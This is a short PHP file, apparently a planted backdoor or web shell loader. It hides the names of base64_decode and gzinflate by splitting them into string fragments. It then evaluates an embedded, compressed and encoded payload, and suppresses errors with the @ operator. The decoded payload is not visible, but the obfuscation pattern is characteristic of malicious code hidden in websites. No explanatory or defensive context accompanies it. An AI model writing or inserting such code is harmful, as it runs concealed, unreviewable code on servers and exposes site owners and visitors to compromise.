<?php
$f=implode("",["bas","e64_de","code"]);$i="gzin"."flate";
@eval($i($f('PY7BioMwFEX3fkUGpC+BokZibRHbroauOoVxV4rE5AUFTURjKQz993ZmMet7OOd2hg46o2F9+fquriDh
djgAsI+yhFzyRGxR6nzLs7QxOSq1QdFwibs0lTmwn/a94kThVFWXmEcJEYkgZ+fJp1usBlbgo/PFMwhN
6XEYrRwoxBrv8dwOsIboTZiux3pcfK2c9Wj9TEOzbuSMG1FrVE7j/7kGbowVwREfqCiMOPUEotBEQPZ/
Urv0PUn3K05Wv2nVOgKzl5NHDUXwAg==
')));
